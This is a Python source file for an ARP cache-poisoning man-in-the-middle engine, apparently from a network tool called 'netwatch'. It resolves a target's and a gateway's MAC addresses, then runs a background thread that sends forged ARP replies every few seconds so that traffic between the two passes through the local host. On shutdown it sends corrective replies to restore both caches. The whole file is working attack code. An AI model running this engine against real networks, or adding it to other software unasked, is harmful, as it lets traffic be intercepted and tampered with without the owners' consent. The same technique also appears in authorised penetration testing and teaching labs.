"""ARP-spoofing MITM engine.

Lifecycle: IDLE -> RESOLVING -> ACTIVE -> STOPPING -> IDLE. `initialize()`
learns both MACs, `start()` launches the periodic spoof thread, `stop()`
joins it, sends corrective replies and closes the handle.
"""
from __future__ import annotations

import logging
import threading
import time
from dataclasses import dataclass
from enum import Enum
from typing import Callable, Optional

from netwatch.capture.frames import arp_reply
from netwatch.capture.handle import open_handle
from netwatch.capture.iface import interface_info
from netwatch.errors import ConfigurationError, ResolutionFailure, ResolutionTimeout, TransmitError
from netwatch.spoofer.resolver import ArpResolver, validate_ipv4
from netwatch.utils import config as cfg

logger = logging.getLogger(__name__)


class EngineState(Enum):
    IDLE = "idle"
    RESOLVING = "resolving"
    ACTIVE = "active"
    STOPPING = "stopping"


@dataclass
class SpoofSession:
    target_ip: str
    gateway_ip: str
    target_mac: str = ""
    gateway_mac: str = ""
    host_mac: str = ""
    state: EngineState = EngineState.IDLE

    def reset(self) -> None:
        self.target_mac = self.gateway_mac = self.host_mac = ""
        self.state = EngineState.IDLE


class MitmEngine:
    """Redirects target<->gateway traffic through this host via ARP cache poisoning.

    IP forwarding is the caller's job; the engine only touches ARP caches.
    """

    def __init__(self, target_ip: str, gateway_ip: str, interface: str,
                 resolver: Optional[ArpResolver] = None,
                 handle_factory: Callable = open_handle,
                 iface_lookup: Callable = interface_info,
                 interval: Optional[float] = None,
                 restore_rounds: Optional[int] = None,
                 restore_gap: Optional[float] = None,
                 resolve_deadline: Optional[float] = None):
        section = cfg.get('mitm') or {}
        self.interface = interface
        self.session = SpoofSession(target_ip=target_ip, gateway_ip=gateway_ip)
        self.interval = interval if interval is not None else float(section.get('interval', 2.0))
        self.restore_rounds = restore_rounds if restore_rounds is not None else int(section.get('restore_rounds', 3))
        self.restore_gap = restore_gap if restore_gap is not None else float(section.get('restore_gap', 0.1))
        if resolve_deadline is None:
            resolve_deadline = float((cfg.get('resolver') or {}).get('deadline', 3.0))
        self.resolve_deadline = resolve_deadline
        self._resolver = resolver or ArpResolver(handle_factory=handle_factory, iface_lookup=iface_lookup)
        self._open = handle_factory
        self._lookup = iface_lookup
        self._handle = None
        self._stop = threading.Event()
        self._thread: Optional[threading.Thread] = None

    @property
    def state(self) -> EngineState:
        return self.session.state

    @property
    def host_mac(self) -> str:
        return self.session.host_mac

    def initialize(self) -> None:
        s = self.session
        try:
            s.target_ip = validate_ipv4(s.target_ip)
            s.gateway_ip = validate_ipv4(s.gateway_ip)
        except ConfigurationError:
            raise ConfigurationError("invalid IP addresses") from None

        host_mac = self._lookup(self.interface).mac
        s.state = EngineState.RESOLVING
        try:
            logger.info("Resolving target MAC (%s)...", s.target_ip)
            target_mac = self._resolver.resolve(s.target_ip, self.interface, self.resolve_deadline)
            logger.info("Target MAC: %s", target_mac)
        except ResolutionTimeout as e:
            s.reset()
            raise ResolutionFailure(f"failed to resolve target MAC: {e}") from e
        try:
            logger.info("Resolving gateway MAC (%s)...", s.gateway_ip)
            gateway_mac = self._resolver.resolve(s.gateway_ip, self.interface, self.resolve_deadline)
            logger.info("Gateway MAC: %s", gateway_mac)
        except ResolutionTimeout as e:
            s.reset()
            raise ResolutionFailure(f"failed to resolve gateway MAC: {e}") from e

        s.host_mac, s.target_mac, s.gateway_mac = host_mac, target_mac, gateway_mac

    def start(self) -> None:
        """Open the handle and launch the spoof thread; returns immediately."""
        if self.session.state != EngineState.RESOLVING:
            raise ConfigurationError(f"cannot start engine in state {self.session.state.value}")
        self._handle = self._open(self.interface, promisc=True)
        self._stop.clear()
        self._thread = threading.Thread(target=self._spoof_loop, name="mitm-spoof", daemon=True)
        self.session.state = EngineState.ACTIVE
        self._thread.start()
        logger.info("Spoofing %s <-> %s every %ss", self.session.target_ip, self.session.gateway_ip, self.interval)

    def stop(self) -> None:
        """Halt spoofing, then best-effort restore both caches and close the handle."""
        if self.session.state != EngineState.ACTIVE:
            logger.debug("stop() ignored in state %s", self.session.state.value)
            return
        self.session.state = EngineState.STOPPING
        self._stop.set()
        if self._thread is not None:
            self._thread.join()
            self._thread = None

        self._restore()
        try:
            self._handle.close()
        except OSError as e:
            logger.warning("Error closing capture handle: %s", e)
        self._handle = None
        self.session.reset()

    def _spoof_loop(self) -> None:
        while not self._stop.wait(self.interval):
            try:
                self._send_spoof_frames()
            except Exception as e:
                logger.exception("Spoof tick failed: %s", e)

    def _send_spoof_frames(self) -> None:
        s = self.session
        frames = (
            # target learns: gateway_ip is-at host_mac
            arp_reply(s.host_mac, s.gateway_ip, s.target_mac, s.target_ip),
            # gateway learns: target_ip is-at host_mac
            arp_reply(s.host_mac, s.target_ip, s.gateway_mac, s.gateway_ip),
        )
        for frame in frames:
            if self._stop.is_set():
                return
            try:
                self._handle.send(frame)
            except TransmitError as e:
                logger.warning("Error sending spoof packet: %s", e)

    def _restore(self) -> None:
        s = self.session
        logger.info("Restoring network (unspoofing)...")
        frames = (
            arp_reply(s.gateway_mac, s.gateway_ip, s.target_mac, s.target_ip),
            arp_reply(s.target_mac, s.target_ip, s.gateway_mac, s.gateway_ip),
        )
        for round_no in range(self.restore_rounds):
            if round_no:
                time.sleep(self.restore_gap)
            for frame in frames:
                try:
                    self._handle.send(frame)
                except TransmitError as e:
                    logger.warning("Restoration frame failed (round %d): %s", round_no + 1, e)


def new_mitm_engine(target_ip: str, gateway_ip: str, interface: str, **kwargs) -> MitmEngine:
    engine = MitmEngine(target_ip, gateway_ip, interface, **kwargs)
    engine.initialize()
    return engine
